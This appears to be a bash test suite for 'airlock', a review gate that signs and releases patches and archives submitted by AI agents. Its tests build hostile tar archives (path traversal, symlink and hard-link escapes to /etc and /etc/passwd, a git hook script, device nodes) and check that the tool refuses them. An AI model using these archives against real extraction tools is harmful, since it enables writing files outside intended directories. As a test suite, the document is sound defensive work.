	expect_eq "$(grep -c '(current)' "$OUT")" 1 "current keys after two rotations"
	expect_eq "$(grep -c '^[0-9a-f]\{64\} ' "$OUT")" 3 "keys after two rotations"
	verify_rc 0 "old attestation after two rotations" --key <("$BIN" key show --all --data "$PWD/data" 2>/dev/null) old.att.json a.py
	srv_stop
}

# ---- 7. end to end: a patch from an agent into a repository ------------------------

t_end_to_end_patch() {
	local AG CI S rc base
	mkdir repo
	(
		cd repo &&
			git init -q -b main &&
			git config user.name 'Base Author' && git config user.email base@example.org &&
			printf 'def add(a, b):\n    return a - b\n' >calc.py &&
			printf '# calc\n' >README.md &&
			git add . && git commit -q -m 'calc: first version'
	) || fail "cannot make the repository"
	base=$(git -C repo rev-parse HEAD)
	git clone -q repo clone || fail "git clone"
	# The agent's work: a commit by its author, as a patch.
	(
		cd repo &&
			printf 'def add(a, b):\n    return a + b\n' >calc.py &&
			printf 'from calc import add\nassert add(2, 2) == 4\n' >test_calc.py &&
			git add . &&
			GIT_AUTHOR_NAME='Ada Lovelace' GIT_AUTHOR_EMAIL=ada@example.org \
				git commit -q -m 'calc: add adds' -m 'It subtracted.' &&
			git format-patch -q -1 --stdout >../fix.patch
	) || fail "cannot make the patch"
	[ -s fix.patch ] || fail "git format-patch wrote nothing"

	srv_init
	echo 'approvals.clean = 2' >data/policy
	srv_start
	mk_token agent agent-1 alice
	AG=$TOK
	mk_token ci ci-1
	CI=$TOK
	reviewers 2
	as "$AG" submit --wait --label "base.commit=$base" fix.patch
	expect_rc 0 "airlock submit --wait of a clean patch"
	S=$(sed -n 's/^submitted \([0-9][0-9]*\) sha256:.*/\1/p' "$OUT" | head -n 1)
	[ -n "$S" ] || fail "no id in the submit output"
	api GET "/v1/submissions/$S" "$ADMIN"
	expect_all 'd["state"]' held 'd["verdict"]' clean 'd["review"]["needed"]' 2
	# Nothing is pulled before the release.
	as "$CI" pull "$S"
	expect_rc 1 "airlock pull before the release"
	expect_out_empty
	api GET "/v1/submissions/$S/content" "$CI"
	expect_code 403 "content for ci before the release"
	api POST "/v1/submissions/$S/release" "$CI" --data-binary '{}'
	expect_code 409 "release before the approvals"

	as "${REV[1]}" diff "$S"
	expect_rc 0 "airlock diff"
	expect_out_has "return a + b"
	as "${REV[1]}" approve "$S" -m "fixes add"
	expect_rc 0
	expect_out_has "held (1 of 2 approvals)"
	approve_as "${REV[2]}" "$S"
	expect_out_has "approved (2 of 2 approvals)"
	as "$CI" release "$S" -o att.json
	expect_rc 0 "airlock release by ci"
	expect_err_has "attestation in att.json"
	api GET "/v1/submissions/$S" "$ADMIN"
	expect_all 'd["state"]' released

	# CI: pull into git am, and verify what was pulled.
	rc=0
	(
		set -o pipefail
		AIRLOCK_URL=$URL AIRLOCK_TOKEN=$CI timeout 30 "$BIN" pull "$S" |
			git -C clone am -q
	) >am.out 2>am.err || rc=$?
	[ "$rc" = 0 ] || fail "airlock pull $S | git am: exit $rc: $(cat am.err)"
	expect_eq "$(git -C clone log -1 --format='%an <%ae>|%s|%b')" \
		'Ada Lovelace <ada@example.org>|calc: add adds|It subtracted.' "the applied commit"
	expect_eq "$(git -C clone rev-parse 'HEAD^{tree}')" "$(git -C repo rev-parse 'HEAD^{tree}')" \
		"the tree after git am"
	expect_eq "$(git -C clone rev-parse HEAD~1)" "$base" "the applied commit's parent"
	as "$CI" pull "$S" -o pulled.patch
	expect_rc 0 "airlock pull -o"
	cmp -s pulled.patch fix.patch || fail "the pulled patch is not the submitted one"
	verify_rc 0 "the attestation of the pulled patch" --key data/keys/signing.pub att.json pulled.patch
	verify_rc 1 "the attestation against another patch" --key data/keys/signing.pub att.json <(sed 's/return a + b/return a * b/' fix.patch)
	srv_stop
}

# ---- 7b. the README's end-to-end flow, as written ----------------------------------

# The block under "The gate, end to end" in README.md, run as a user would:
# in a directory with build/airlock and var/ (`make run`'s data directory,
# with var/admin.token), the gate serving the shipped rules. Only the
# port differs (the README's 8420 becomes a free one).
t_readme_end_to_end() {
	local rc=0
	python3 - "$ROOT/README.md" readme.sh <<'EOF' || fail "no sh block under 'The gate, end to end' in README.md"
import re, sys
t = open(sys.argv[1]).read()
sec = t.split("## The gate, end to end", 1)[1].split("\n## ", 1)[0]
m = re.search(r"```sh\n(.*?)```", sec, re.S)
open(sys.argv[2], "w").write(m.group(1))
EOF
	grep -q 'http://127.0.0.1:8420' readme.sh || fail "the README's block sets no AIRLOCK_URL"
	mkdir build
	ln -s "$BIN" build/airlock
	ln -s data var
	srv_init
	(umask 077 && cp admin.tok data/admin.token)
	srv_start --rules "$ROOT/rules"
	sed -i "s|http://127.0.0.1:8420|$URL|" readme.sh
	(
		unset AIRLOCK_TOKEN AIRLOCK_DATA AIRLOCK_PUBKEY
		export GIT_AUTHOR_NAME='Ada Lovelace' GIT_AUTHOR_EMAIL=ada@example.org
		timeout 120 bash -e -o pipefail readme.sh
	) >"$OUT" 2>"$ERR" || rc=$?
	[ "$rc" = 0 ] || fail "the README's end-to-end block exited $rc"
	expect_eq "$(git -C demo log -1 --format='%an|%s')" 'Ada Lovelace|hello: say hello' "the commit git am applied"
	expect_eq "$(cat demo/hello.py)" 'print("hello")' "demo/hello.py after git am"
	cmp -s change.patch sandbox/change.patch || fail "the pulled patch is not the agent's"
	# The line stops at verify when the bytes are not the released ones.
	printf '\n' >>change.patch
	verify_rc 1 "the README's verify on other bytes" --key gate.pub release.att.json change.patch
	srv_stop
}

# The CI job of docs/ci.md: its run: scripts, in order, as written, in a
# checkout of the protected repository (with the committed keyring), with
# airlock on PATH and the job's environment; a keyring without the gate's
# key stops the job at the verify step.
t_ci_doc_steps() {
	local AG S rc i
	python3 - "$ROOT/docs/ci.md" <<'EOF' || fail "no run: scripts in docs/ci.md's yaml block"
import re, sys
t = open(sys.argv[1]).read()
y = re.search(r"```yaml\n(.*?)```", t, re.S).group(1).split("\n")
n = 0
i = 0
while i < len(y):
    m = re.match(r"^(\s*)(- )?run: \|$", y[i])
    if m:
        ind = len(m.group(1)) + (2 if m.group(2) else 0)
        body = []
        i += 1
        while i < len(y) and (y[i].strip() == "" or len(y[i]) - len(y[i].lstrip()) > ind):
            body.append(y[i])
            i += 1
        strip = min(len(l) - len(l.lstrip()) for l in body if l.strip())
        n += 1
        open("step%d.sh" % n, "w").write("\n".join(l[strip:] for l in body) + "\n")
        continue
    i += 1
assert n == 3, n
EOF
	mkdir bin
	ln -s "$BIN" bin/airlock
	srv_start
	mk_token agent agent-1 alice
	AG=$TOK
	mk_token ci ci-1
	CI=$TOK
	reviewers 1
	# The protected repository, with the gate's keyring committed.
	git init -q -b main origin.git || fail "git init"
	(
		cd origin.git &&
			git config user.name 'Base Author' && git config user.email base@example.org &&
			mkdir .airlock && "$BIN" key show --all --data "$PWD/../data" >.airlock/gate-keys.pem 2>/dev/null &&
			printf '# demo\n' >README.md && git add . && git commit -q -m 'start' &&
			git checkout -q -b agent && printf 'x = 1\n' >x.py && git add x.py &&
			GIT_AUTHOR_NAME='Ada Lovelace' GIT_AUTHOR_EMAIL=ada@example.org git commit -q -m 'x: one' &&
			git format-patch -q -1 --stdout >../agent.patch && git checkout -q main && git branch -q -D agent
	) || fail "cannot make the repository"
	held "$AG" agent.patch name=change.patch
	S=$SID
	approve_as "${REV[1]}" "$S"
	as "${REV[1]}" release "$S" -o /dev/null
	expect_rc 0 "the reviewer's release"
	git clone -q origin.git checkout || fail "git clone"
	(
		cd checkout
		export SUBMISSION=$S AIRLOCK_URL=$URL AIRLOCK_TOKEN=$CI PATH=$PWD/../bin:$PATH
		for i in 1 2 3; do bash -e -o pipefail "../step$i.sh" || exit "$i"; done
	) >"$OUT" 2>"$ERR" || rc=$?
	[ -z "${rc:-}" ] || fail "docs/ci.md: step $rc failed"
	expect_out_has "applied "
	expect_eq "$(git -C checkout log -1 --format='%an|%s')" 'Ada Lovelace|x: one' "the commit the job applied"
	# A keyring of another gate: the job stops at verify, nothing applied.
	"$BIN" init --data "$PWD/other" >/dev/null 2>&1 || fail "airlock init of another gate"
	git clone -q origin.git checkout2 || fail "git clone"
	"$BIN" key show --all --data "$PWD/other" >checkout2/.airlock/gate-keys.pem 2>/dev/null
	rc=
	(
		cd checkout2
		export SUBMISSION=$S AIRLOCK_URL=$URL AIRLOCK_TOKEN=$CI PATH=$PWD/../bin:$PATH
		for i in 1 2 3; do bash -e -o pipefail "../step$i.sh" || exit "$i"; done
	) >"$OUT" 2>"$ERR" || rc=$?
	expect_eq "${rc:-0}" 2 "the step that stops the job with another gate's keyring"
	expect_err_has "not in the keyring"
	expect_eq "$(git -C checkout2 log -1 --format=%s)" start "HEAD of the refused checkout"
	srv_stop
}

# ---- 8. pull of an archive ----------------------------------------------------------

t_pull_archive() {
	local AG CI S
	srv_start
	mk_token agent agent-1 alice
	AG=$TOK
	mk_token ci ci-1
	CI=$TOK
	reviewers 2
	mkdir -p src/pkg/sub
	printf 'top\n' >src/README.txt
	printf 'x = 1\n' >src/pkg/sub/mod.py
	ln -s pkg/sub/mod.py src/modlink # a link inside the tree: kept
	tar -C src -cf proj.tar README.txt pkg modlink || fail "tar"
	held "$AG" proj.tar name=proj.tar
	S=$SID
	expect_all 'd["verdict"]' clean
	approve_as "${REV[1]}" "$S"
	as "$CI" release "$S" -o att.json
	expect_rc 0 "airlock release of the archive"
	as "$CI" pull "$S"
	expect_rc 2 "airlock pull of an archive without -o"
	as "$CI" pull "$S" -o out
	expect_rc 0 "airlock pull -o out"
	diff -r src out >"$OUT" 2>&1 || fail "the unpacked tree differs from the packed one"
	[ -L out/modlink ] && [ "$(readlink out/modlink)" = pkg/sub/mod.py ] ||
		fail "the inner link is not unpacked as a link to pkg/sub/mod.py"
	verify_rc 0 "the archive's attestation" --key data/keys/signing.pub att.json proj.tar

	# An archive whose entry climbs out: flagged high, released after two
	# approvals, and still not unpacked outside the directory.
	python3 - <<'EOF' || fail "cannot make evil.tar"
import io, tarfile
with tarfile.open("evil.tar", "w", format=tarfile.USTAR_FORMAT) as t:
    for name, data in [("fine.txt", b"fine\n"), ("../evil", b"pwned\n"), ("after.txt", b"after\n")]:
        i = tarfile.TarInfo(name)
        i.size = len(data)
        t.addfile(i, io.BytesIO(data))
EOF
	held "$AG" evil.tar name=evil.tar
	S=$SID
	expect_all 'd["verdict"]' flagged 'd["worst"]' high \
		'[f["severity"] for f in R("airlock.archive-path")]' "['high']" 'd["review"]["needed"]' 2
	approve_as "${REV[1]}" "$S"
	standing "$S" held 1 2
	approve_as "${REV[2]}" "$S"
	as "$CI" release "$S"
	expect_rc 0 "airlock release of evil.tar"
	mkdir box
	as "$CI" pull "$S" -o box/out
	[ "$RC" != 0 ] || fail "airlock pull unpacked an archive with '../evil' and exited 0"
	[ ! -e box/evil ] || fail "airlock pull wrote box/evil, outside box/out"
	[ ! -e evil ] || fail "airlock pull wrote ./evil"
	find "$WORK" -name evil ! -path "$PWD/box/out/*" >evil.found
	[ ! -s evil.found ] || fail "a file named evil appeared: $(cat evil.found)"
	expect_eq "$(cd box && find . -mindepth 1 ! -path './out' ! -path './out/*' | wc -l)" 0 "entries in box outside box/out"
	srv_stop
}

# An archive with links that leave the directory: pull promises "no links
# leaving it" (airlock pull --help), so none may be made, and nothing may be
# written through one.
t_pull_archive_links_stay_inside() {
	local AG CI l t
	declare -A S
	srv_start
	mk_token agent agent-1 alice
	AG=$TOK
	mk_token ci ci-1
	CI=$TOK
	reviewers 2
	python3 - <<'PY' || fail "cannot make the archives"
import io, tarfile
def mk(path, entries):
    with tarfile.open(path, "w", format=tarfile.USTAR_FORMAT) as t:
        for name, data, link in entries:
            i = tarfile.TarInfo(name)
            if link is not None:
                i.type = tarfile.SYMTYPE
                i.linkname = link
                t.addfile(i)
            else:
                i.size = len(data)
                t.addfile(i, io.BytesIO(data))
# a link out, then a file written through it
mk("through.tar", [("ok.txt", b"ok\n", None), ("up", None, "../.."), ("up/evil2", b"pwned\n", None)])
# links out, nothing else
mk("links.tar", [("ok.txt", b"ok\n", None), ("up", None, "../.."), ("abs", None, "/tmp")])
PY
	# Released: flagged high (symlink-escape), two approvals.
	for t in through links; do
		held "$AG" "$t.tar" "name=$t.tar"
		expect_all 'd["verdict"]' flagged 'd["worst"]' high 'len(R("airlock.symlink-escape")) > 0' True
		approve_as "${REV[1]}" "$SID"
		approve_as "${REV[2]}" "$SID"
		as "$CI" release "$SID"
		expect_rc 0 "airlock release of $t.tar"
		S[$t]=$SID
	done
	# Nothing written through the link.
	mkdir -p box1/in
	as "$CI" pull "${S[through]}" -o box1/in/out
	echo "airlock pull of through.tar: exit $RC; $(cat "$ERR")"
	[ "$RC" != 0 ] || fail "airlock pull of through.tar exited 0"
	find "$WORK" -name evil2 >evil.found
	[ ! -s evil.found ] || fail "airlock pull wrote through a link: $(cat evil.found)"
	# No link that leaves the directory.
	mkdir -p box2/in
	as "$CI" pull "${S[links]}" -o box2/in/out
	echo "airlock pull of links.tar: exit $RC; $(cat "$ERR")"
	local bad=
	for l in $(find box1/in/out box2/in/out -type l 2>/dev/null | sort); do
		t=$(readlink "$l")
		case $t in
		/* | ..*) bad="$bad $l -> $t;" ;;
		esac
	done
	[ -z "$bad" ] || fail "airlock pull made links leaving the directory (the pull of links.tar exited $RC):$bad"
	srv_stop
}

# After the release the stored bytes are still checked: pull hands out
# nothing that is not what was released.
t_pull_refuses_altered_blob() {
	local AG CI S f
	srv_start
	mk_token agent agent-1 alice
	AG=$TOK
	mk_token ci ci-1
	CI=$TOK
	reviewers 1
	printf 'released bytes\n' >data.txt
	held "$AG" data.txt name=data.txt
	S=$SID
	approve_as "${REV[1]}" "$S"
	as "$CI" release "$S"
	expect_rc 0 "airlock release"
	as "$CI" pull "$S" -o first.txt
	expect_rc 0 "airlock pull"
	cmp -s first.txt data.txt || fail "pulled bytes differ"
	# A second release (a CI retry): answered with the first attestation,
	# which stands (it was 409 before releases became idempotent).
	api GET "/v1/submissions/$S/attestation" "$CI"
	cp "$OUT" att1.json
	api POST "/v1/submissions/$S/release" "$CI" --data-binary '{}'
	expect_code 200 "a second release"
	cmp -s "$OUT" att1.json || fail "a second release answered another attestation"
	api GET "/v1/submissions/$S/attestation" "$CI"
	cmp -s "$OUT" att1.json || fail "the attestation changed after a second release"
	f=$(blob "$SHA")
	chmod u+w "$f"
	printf 'RELEASED bytes\n' >"$f" # same size
	chmod 0400 "$f"
	as "$CI" pull "$S" -o second.txt
	[ "$RC" != 0 ] || fail "airlock pull of altered bytes exited 0"
	[ ! -e second.txt ] || fail "airlock pull wrote altered bytes to second.txt"
	chmod u+w "$f"
	printf 'X' >>"$f" # another size
	chmod 0400 "$f"
	as "$CI" pull "$S" -o third.txt
	[ "$RC" != 0 ] || fail "airlock pull of grown bytes exited 0"
	[ ! -e third.txt ] || fail "airlock pull wrote grown bytes to third.txt"
	srv_stop
}

# ---- 8b. pull unpacks in a sandbox, beneath its target only -------------------------
#
# The archives below are released (every approval and override the policy
# asks for: pull must not rely on the scan having stopped them) and then
# pulled into scratch/target, which holds keep.txt beside scratch/sibling.
# A refused archive must leave the whole scratch tree as it was, entry by
# entry (type, mode, size, link target), and write nothing anywhere else.

# release_any AGENT FILE: submitted, held, approved by as many reviewers as
# the policy asks (2 at most), overridden by the admin if unscannable, and
# released by $CI; the id in $SID.
release_any() {
	local need i verdict
	held "$1" "$2" "name=$(basename "$2")"
	need=$(jsonq 'd["review"]["needed"]')
	verdict=$(jsonq 'd["verdict"]')
	for i in $(seq 1 "$need"); do
		approve_as "${REV[i]}" "$SID"
	done
	if [ "$verdict" = unscannable ]; then
		as "$ADMIN" override "$SID" -m "the pull test releases it on purpose"
		expect_rc 0 "airlock override $SID"
	fi
	as "$CI" release "$SID"
	expect_rc 0 "airlock release of $2 ($verdict)"
}

# pull_setup: a gate, an agent ($AG), a CI token ($CI), two reviewers.
pull_setup() {
	srv_start
	mk_token agent agent-1 alice
	AG=$TOK
	mk_token ci ci-1
	CI=$TOK
	reviewers 2
}

# snap DIR: every entry beneath DIR with its type, mode, size and link.
snap() { (cd "$1" && find . -printf '%p %y %m %s %l\n' | LC_ALL=C sort); }

# scratch_new: scratch/target/keep.txt and scratch/sibling/, fresh.
scratch_new() {
	rm -rf scratch
	mkdir -p scratch/target scratch/sibling
	printf 'keep\n' >scratch/target/keep.txt
}

# mk_tars: the hostile archives, built with python's tarfile; each has a
# fine file first and after the refused entry, so a refusal is half-way.
mk_tars() {
	python3 - "$PWD/scratch" <<'PY' || fail "cannot make the archives"
import io, sys, tarfile
scratch = sys.argv[1]
def mk(path, entries, fmt=tarfile.GNU_FORMAT):
    with tarfile.open(path, "w", format=fmt) as t:
        for e in [("fine.txt", "f", b"fine\n")] + entries + [("after.txt", "f", b"after\n")]:
            name, kind, arg = e[0], e[1], e[2]
            i = tarfile.TarInfo(name)
            i.mode = e[3] if len(e) > 3 else 0o644
            if kind == "f":
                i.size = len(arg)
                t.addfile(i, io.BytesIO(arg))
                continue
            i.type = {"l": tarfile.SYMTYPE, "h": tarfile.LNKTYPE, "d": tarfile.DIRTYPE,
                      "p": tarfile.FIFOTYPE, "c": tarfile.CHRTYPE, "b": tarfile.BLKTYPE}[kind]
            if kind in "lh":
                i.linkname = arg
            if kind in "cb":
                i.devmajor, i.devminor = 1, 3
            t.addfile(i)
# a link to '.', then a name that climbs out through it
mk("dotdot.tar", [("a", "l", "."), ("a/a/a/../../../../escape", "f", b"pwned\n")])
# a link to '.', then a link that is inside read lexically, outside physically
mk("chain.tar", [("a", "l", "."), ("b", "l", "a/.."), ("b/escape", "f", b"pwned\n")])
# the same climb, the link written before the link it goes through
mk("chain2.tar", [("b", "l", "a/.."), ("a", "l", ".")])
# deeper: a link to '.', then a link through it that climbs two levels
mk("chain3.tar", [("d", "d", None, 0o755), ("d/a", "l", "."), ("d/b", "l", "a/a/../..")])
# an entry beneath a link the same archive made, inside and outside
mk("beneath.tar", [("sub", "d", None, 0o755), ("d", "l", "sub"), ("d/x", "f", b"x\n")])
mk("beneath_abs.tar", [("d", "l", scratch + "/sibling"), ("d/x", "f", b"x\n")])
mk("abs_link.tar", [("abs", "l", "/etc")])
mk("up_link.tar", [("sub/up", "l", "../../..")])
mk("hard_passwd.tar", [("pw", "h", "/etc/passwd")])
mk("hard_inner.tar", [("again.txt", "h", "fine.txt")])
mk("git_hook.tar", [(".git/hooks/post-checkout", "f", b"#!/bin/sh\nid\n", 0o755)])
mk("git_upper.tar", [(".GIT/config", "f", b"[core]\n")])
mk("fifo.tar", [("pipe", "p", None)])
mk("chardev.tar", [("null", "c", None)])
mk("blockdev.tar", [("disk", "b", None)])
mk("abs_name.tar", [(scratch + "/sibling/x", "f", b"x\n")], fmt=tarfile.GNU_FORMAT)
mk("twice.tar", [("fine.txt", "f", b"again\n")])
PY
}

# expect_refused ID ARCHIVE: pulling ID into scratch/target fails, names
# the reason, and changes nothing in scratch (nor writes 'escape' or 'x'
# anywhere in the test's directory tree outside the archive files).
expect_refused() {
	local before after
	scratch_new
	before=$(snap scratch)
	as "$CI" pull "$1" -o scratch/target
	[ "$RC" = 2 ] || fail "airlock pull of $2: exit $RC, expected 2 (refused)"
	grep -q 'airlock pull: ' "$ERR" || fail "airlock pull of $2 said nothing on stderr"
	after=$(snap scratch)
	[ "$before" = "$after" ] || fail "airlock pull of $2 changed the scratch tree:
$(diff <(echo "$before") <(echo "$after"))"
	! find "$WORK" \( -name escape -o -name pwned \) | grep -q . ||
		fail "airlock pull of $2 wrote an 'escape': $(find "$WORK" -name escape)"
	[ ! -e /etc/escape ] || fail "/etc/escape exists"
	echo "refused $2: $(head -c 300 "$ERR")"
}

t_pull_refuses_escapes_and_leaves_everything() {
	local t
	declare -A S
	pull_setup
	scratch_new
	mk_tars
	for t in dotdot chain chain2 chain3 beneath beneath_abs abs_link up_link \
		hard_passwd hard_inner git_hook git_upper fifo chardev blockdev abs_name twice; do
		release_any "$AG" "$t.tar"
		S[$t]=$SID
	done
	for t in "${!S[@]}"; do
		expect_refused "${S[$t]}" "$t.tar"
	done
	# Each is refused for its own reason, not by accident.
	as "$CI" pull "${S[chain]}" -o scratch/target
	expect_err_has "beneath a symbolic link"
	as "$CI" pull "${S[chain2]}" -o scratch/target
	expect_err_has "b: a symbolic link that resolves outside the target"
	as "$CI" pull "${S[chain3]}" -o scratch/target
	expect_err_has "d/b: a symbolic link that resolves outside the target"
	as "$CI" pull "${S[dotdot]}" -o scratch/target
	expect_err_has "'..' in the name"
	as "$CI" pull "${S[beneath]}" -o scratch/target
	expect_err_has "beneath a symbolic link"
	as "$CI" pull "${S[abs_link]}" -o scratch/target
	expect_err_has "a symbolic link to an absolute name"
	as "$CI" pull "${S[hard_passwd]}" -o scratch/target
	expect_err_has "a hard link (to /etc/passwd)"
	as "$CI" pull "${S[git_hook]}" -o scratch/target
	expect_err_has "inside .git"
	as "$CI" pull "${S[git_upper]}" -o scratch/target
	expect_err_has "another spelling of .git"
	as "$CI" pull "${S[fifo]}" -o scratch/target
	expect_err_has "a FIFO"
	as "$CI" pull "${S[chardev]}" -o scratch/target
	expect_err_has "a character device"
	as "$CI" pull "${S[twice]}" -o scratch/target
	expect_err_has "the name is in the archive twice"
	# Into a directory pull makes: refused, and the directory is gone again.
	as "$CI" pull "${S[chain]}" -o scratch/new
	[ "$RC" = 2 ] || fail "airlock pull of chain.tar into a new directory: exit $RC"
	[ ! -e scratch/new ] || fail "a refused pull left scratch/new behind"
	srv_stop
}

# Files and directories keep their modes (less the umask), setuid and
# setgid are dropped, for tar.gz and zip; -o takes an absolute or a
# relative path; an existing name is never overwritten.
t_pull_archive_modes_and_target() {
	local S Z
	pull_setup
	umask 022
	mkdir -p src/bin src/priv
	printf '#!/bin/sh\necho hi\n' >src/bin/run.sh
	printf 'text\n' >src/README.txt
	printf 'secret-free\n' >src/priv/own.txt
	printf 'suid\n' >src/suid
	chmod 0755 src/bin/run.sh
	chmod 0644 src/README.txt
	chmod 0600 src/priv/own.txt
	chmod 0750 src/priv
	chmod 4755 src/suid
	tar -C src -czf proj.tar.gz . || fail "tar"
	(cd src && zip -qr ../proj.zip .) || fail "zip"
	release_any "$AG" proj.tar.gz
	S=$SID
	release_any "$AG" proj.zip
	Z=$SID
	# An absolute -o, made by pull (its parent must exist).
	mkdir abs
	as "$CI" pull "$S" -o "$PWD/abs/out"
	expect_rc 0 "airlock pull -o /absolute/dir"
	expect_out_has "unpacked into"
	expect_out_has "file 0755"
	expect_out_has "6 entries (4 files, 2 directories, 0 links, 40 bytes)"
	expect_eq "$(stat -c %a abs/out/bin/run.sh abs/out/README.txt abs/out/priv/own.txt abs/out/priv abs/out/suid | paste -sd' ')" \
		"755 644 600 750 755" "modes after the tar.gz pull (setuid dropped)"
	diff -r src abs/out >/dev/null || fail "the tar.gz's content differs"
	[ -z "$(find abs -name '.airlock-pull.*')" ] || fail "the temporary directory was left behind"
	# A relative -o that exists, for the zip.
	mkdir rel
	as "$CI" pull "$Z" -o rel
	expect_rc 0 "airlock pull -o relative (zip)"
	expect_eq "$(stat -c %a rel/bin/run.sh rel/README.txt rel/priv/own.txt rel/priv rel/suid | paste -sd' ')" \
		"755 644 600 750 755" "modes after the zip pull (setuid dropped)"
	diff -r src rel >/dev/null || fail "the zip's content differs"
	# Again into the same directory: README.txt is there, so nothing moves.
	printf 'changed\n' >rel/README.txt
	rm -r rel/bin
	as "$CI" pull "$Z" -o rel
	expect_rc 2 "airlock pull over existing names"
	expect_err_has "already in the target"
	[ ! -e rel/bin ] || fail "a refused pull moved bin/ in beside existing names"
	expect_eq "$(cat rel/README.txt)" changed "README.txt after a refused pull"
	[ -z "$(find rel -name '.airlock-pull.*')" ] || fail "the temporary directory was left behind"
	srv_stop
}

# The child is sandboxed: a forbidden system call kills it (nothing is
# unpacked), and a child taken over by the archive cannot create a file
# by absolute name, outside the target, though seccomp lets openat2 by:
# Landlock stops it.
t_pull_child_is_sandboxed() {
	local S before
	pull_setup
	mkdir src
	printf 'a\n' >src/a.txt
	tar -C src -cf a.tar a.txt || fail "tar"
	release_any "$AG" a.tar
	S=$SID
	scratch_new
	before=$(snap scratch)
	AIRLOCK_TEST_PULL_FAULT=syscall as "$CI" pull "$S" -o scratch/target
	[ "$RC" = 2 ] || fail "a child making a forbidden system call: pull exit $RC"
	expect_err_has "it tried a system call its sandbox forbids"
	[ "$before" = "$(snap scratch)" ] || fail "a killed child left something"
	AIRLOCK_TEST_PULL_FAULT="escape:$PWD/scratch/sibling" as "$CI" pull "$S" -o scratch/target
	[ ! -e scratch/sibling/escaped ] || fail "the unpacking child created a file outside its directory (no Landlock?)"
	expect_rc 0 "the pull after the failed escape"
	[ "$(cat scratch/target/a.txt)" = a ] || fail "a.txt not unpacked"
	srv_stop
}

# ---- 9. every decision is an event -------------------------------------------------

t_events_record_decisions() {
	local AG CI S
	srv_start
	mk_token agent agent-1 alice
	AG=$TOK
	mk_token ci ci-1
	CI=$TOK
	reviewers 2
	curlsh_file install.sh
	held "$AG" install.sh name=install.sh
	S=$SID
	as "${REV[1]}" approve "$S" # refused: not read; no approve, a refusal
	expect_rc 1
	approve_as "${REV[1]}" "$S"
	approve_as "${REV[2]}" "$S"
	as "$CI" release "$S" -o att.json
	expect_rc 0 "airlock release"
	events "$S"
	expect_all '[e["action"] for e in d["events"]]' \
		"['submit', 'scan.start', 'scan.finish', 'approve.refused', 'view', 'approve', 'view', 'approve', 'approved', 'release']" \
		'[e["actor"] for e in d["events"]]' \
		"['agent-1', None, None, 'rev-1', 'rev-1', 'rev-1', 'rev-2', 'rev-2', 'rev-2', 'ci-1']" \
		'E("approve.refused")[0]["detail"].startswith("review evidence: rev-1 was not served the whole content")' True \
		'[e["id"] for e in d["events"]] == sorted(e["id"] for e in d["events"])' True \
		'all(e["at"] for e in d["events"])' True \
		'[e["detail"].split(" ")[0] for e in E("approve")]' "['sha256=$SHA', 'sha256=$SHA']" \
		'E("approved")[0]["detail"].split(" ")[:2]' "['approvals=2', 'needed=2']"
	# Auditors and reviewers read the same record; agents and ci do not.
	api GET "/v1/submissions/$S/events" "${REV[1]}"
	expect_code 200 "events for a reviewer"
	api GET "/v1/submissions/$S/events" "$AG"
	expect_code 403 "events for the agent"
	api GET "/v1/submissions/$S/events" "$CI"
	expect_code 403 "events for ci"
	srv_stop
}

# ---- 9b. refusals on the record; the record shown -----------------------------------

# Refused approvals (the launched-for person; the same reviewer twice; an
# approval of a rejected submission; a role that may not approve), a refused
# release and a refused override are events with the actor, the gate's
# reason and the time, in the submission's timeline; `airlock show` prints
# the approvals with their comments, the rejection with its reason and the
# timeline, escaped; the agent reads why its own submission was rejected
# and nothing else of the record, and nothing of another's.
t_refusals_are_on_the_record() {
	local AG AG2 CI ALICE S O body
	srv_start
	mk_token agent agent-1 alice
	AG=$TOK
	mk_token agent agent-2 bob
	AG2=$TOK
	mk_token ci ci-1
	CI=$TOK
	mk_token reviewer alice
	ALICE=$TOK
	reviewers 2
	curlsh_file install.sh
	held "$AG" install.sh name=install.sh
	S=$SID
	standing "$S" held 0 2
	# The person the agent was launched for, having read it: refused.
	view "$ALICE" "$S"
	approve_raw "$ALICE" "$S" "$SHA" "$RS"
	expect_code 403 "approval by the launched-for person"
	approve_as "${REV[1]}" "$S"
	# The same reviewer again: refused (409), counted once.
	approve_raw "${REV[1]}" "$S" "$SHA" "$RS"
	expect_code 409 "a second approval by the same reviewer"
	# An agent may not approve: a refused login (its role), on the record.
	approve_raw "$AG" "$S" "$SHA" "$RS"
	expect_code 403 "approval by an agent"
	# Release while held: refused; override of a flagged verdict: refused.
	api POST "/v1/submissions/$S/release" "$CI" --data-binary '{}'
	expect_code 409 "release of a held submission"
	api POST "/v1/submissions/$S/override" "$ADMIN" -H 'Content-Type: application/json' \
		--data-binary '{"reason": "trust me"}'
	expect_code 403 "override of a flagged verdict"
	# Rejected, with a reason that carries terminal controls and a newline.
	body=$(python3 -c 'import json; print(json.dumps({"comment": "pipes a download into sh\u001b[31m\nsecond line"}))')
	api POST "/v1/submissions/$S/reject" "${REV[2]}" -H 'Content-Type: application/json' \
		--data-binary "$body"
	expect_code 200 "reject"
	# An approval of a rejected submission: refused.
	view "${REV[2]}" "$S"
	approve_raw "${REV[2]}" "$S" "$SHA" "$RS"
	expect_code 403 "approval of a rejected submission"
	# A second rejection: refused too.
	api POST "/v1/submissions/$S/reject" "${REV[1]}" -H 'Content-Type: application/json' \
		--data-binary '{"comment": "again"}'
	expect_code 403 "a rejection of a rejected submission"
	events "$S"
	expect_all '[(e["actor"], e["detail"]) for e in E("approve.refused")]' \
		"[('alice', 'separation of duties: alice is the person agent agent-1 was launched for, and cannot approve its submission (with any of their tokens)'), ('rev-1', 'rev-1 approved this scan already (with token rev-1): a person counts once, whatever their tokens'), ('rev-2', 'submission $S is rejected, not held')]" \
		'[(e["actor"], e["detail"]) for e in E("release.refused")]' \
		"[('ci-1', 'submission $S is held: only approved submissions are released')]" \
		'[(e["actor"], e["detail"]) for e in E("override.refused")]' \
		"[('admin', 'only an unscannable verdict is overridden; this one is flagged')]" \
		'[(e["actor"], e["detail"]) for e in E("reject.refused")]' \
		"[('rev-1', 'submission $S is rejected, not held')]" \
		'[(e["actor"], e["detail"].split(" ")[:2]) for e in E("login.refused")]' \
		"[('agent-1', ['reason=role', 'role=agent'])]" \
		'"route=approve" in E("login.refused")[0]["detail"]' True \
		'all(e["at"] for e in d["events"])' True \
		'[e["id"] for e in d["events"]] == sorted(e["id"] for e in d["events"])' True \
		'len(E("approve"))' 1
	standing "$S" rejected 1 2
	# The record in GET /v1/submissions/ID, for a reviewer.
	api GET "/v1/submissions/$S" "${REV[1]}"
	expect_code 200 "show for a reviewer"
